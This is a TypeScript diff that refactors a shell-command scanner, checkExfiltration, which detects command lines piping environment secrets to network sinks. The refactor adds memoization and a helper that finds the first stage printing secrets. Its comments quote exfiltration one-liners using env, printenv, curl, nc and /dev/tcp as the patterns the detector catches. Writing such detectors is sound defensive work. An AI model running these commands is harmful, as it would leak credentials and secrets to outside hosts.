@@ -45,19 +45,25 @@ export function checkExfiltration(calls: PipedInvocation[]): Finding | null {
   // `/dev/tcp/h/80` written to, or opened for later writes (`exec 3<>/dev/tcp/h/80`: which descriptor the parser does not keep)
   const sockets = calls.filter((c) => c.inv.command.redirects.some((r) => networkPath(r.target?.value ?? '')) || c.inv.args.some((w) => networkPath(w.value)));
   if (!sinks.length && !sockets.length) return null;
-  const secrets = calls.map((c) => emitsSecrets(c.inv));
-  const written = writtenFromSecrets(calls, secrets);
+  // what each call prints of secrets, asked only of the calls whose output may reach a sink
+  const memo = new Map<number, string | null>();
+  const secretAt = (k: number) => (memo.has(k) ? memo.get(k)! : memo.set(k, emitsSecrets(calls[k]!.inv)).get(k)!);
+  const written = writtenFromSecrets(calls, secretAt);
   for (const [file, secret] of written) if (networkPath(file)) return finding(secret, file);
   // a stage that reads a file written from secrets prints them too (`cat /tmp/e | nc h 1`)
-  const printed = calls.map((c, k) => secrets[k] ?? readsWritten(c.inv, written));
+  const printedAt = (k: number) => secretAt(k) ?? readsWritten(calls[k]!.inv, written);
   const socket = sockets.find((c) => c.inv.program === 'exec')?.inv.command.redirects.find((r) => networkPath(r.target?.value ?? ''))?.target?.value;
-  const anyPrinted = printed.find(Boolean);
-  if (socket && anyPrinted) return finding(anyPrinted, socket);
+  if (socket) {
+    const k = calls.findIndex((_, i) => printedAt(i));
+    if (k >= 0) return finding(printedAt(k)!, socket);
+  }
+  // the first stage that prints secrets in each pipeline a sink reads stdin from: what reaches every stage after it
+  const firstPrinter = firstStages(calls, new Set(sinks.filter((x) => x.sink.stdin).map((x) => x.c.pipeline)), printedAt);
   for (const { c: d, sink } of sinks) {
     // piped into its stdin (`printenv | curl -d @-`), directly or through later stages
     if (sink.stdin) {
-      const k = calls.findIndex((c, i) => printed[i] && c.pipeline === d.pipeline && c.index < d.index);
-      if (k >= 0) return finding(printed[k]!, sink.program);
+      const k = firstPrinter.get(d.pipeline);
+      if (k !== undefined && calls[k]!.index < d.index) return finding(printedAt(k)!, sink.program);
       // a here-string or heredoc made by a printer (`nc h 1 <<< "$(env)"`), a process substitution (`nc h 1 < <(env)`)
       const fed = scriptsPrint(d.inv.command.redirects.flatMap(inputScripts));
       if (fed) return finding(fed, sink.program);
@@ -76,17 +82,30 @@ export function checkExfiltration(calls: PipedInvocation[]): Finding | null {
  * The files the line writes from secrets, each with the secret: a printer's output redirected
  * (`env > /tmp/e`), or that of a later stage of its pipeline (`printenv | sort > /tmp/e`, `env | tee /tmp/e`).
  */
-function writtenFromSecrets(calls: readonly PipedInvocation[], secrets: readonly (string | null)[]): Map<string, string> {
+function writtenFromSecrets(calls: readonly PipedInvocation[], secretAt: (k: number) => string | null): Map<string, string> {
   const written = new Map<string, string>();
-  for (const [k, c] of calls.entries()) {
-    const secret = secrets[k];
-    if (!secret) continue;
-    for (const d of calls) {
-      if (d.pipeline !== c.pipeline || d.index < c.index) continue;
-      for (const f of writtenFiles(d, d.index > c.index)) if (!written.has(f)) written.set(f, secret);
-    }
+  const writers = calls.filter((d) => writtenFiles(d, true).length);
+  if (!writers.length) return written;
+  // the first printer of each pipeline that writes a file: what reaches every later stage
+  const first = firstStages(calls, new Set(writers.map((d) => d.pipeline)), secretAt);
+  for (const d of writers) {
+    const k = first.get(d.pipeline);
+    if (k === undefined || calls[k]!.index > d.index) continue;
+    // `tee FILE` writes what a stage before it prints, not its own output
+    for (const f of writtenFiles(d, calls[k]!.index < d.index)) if (!written.has(f)) written.set(f, secretAt(k)!);
   }
   return written;
+}
+
+/** In each of `pipelines`, the call (its place in `calls`) at the lowest stage for which `prints` says something. */
+function firstStages(calls: readonly PipedInvocation[], pipelines: ReadonlySet<number>, prints: (k: number) => string | null): Map<number, number> {
+  const first = new Map<number, number>();
+  for (const [k, c] of calls.entries()) {
+    if (!pipelines.has(c.pipeline)) continue;
+    const at = first.get(c.pipeline);
+    if ((at === undefined || calls[at]!.index > c.index) && prints(k)) first.set(c.pipeline, k);
+  }
+  return first;
 }
 
 /** What `inv` reads of the files written from secrets (an argument, `< FILE`), as a printer's description, or null. */
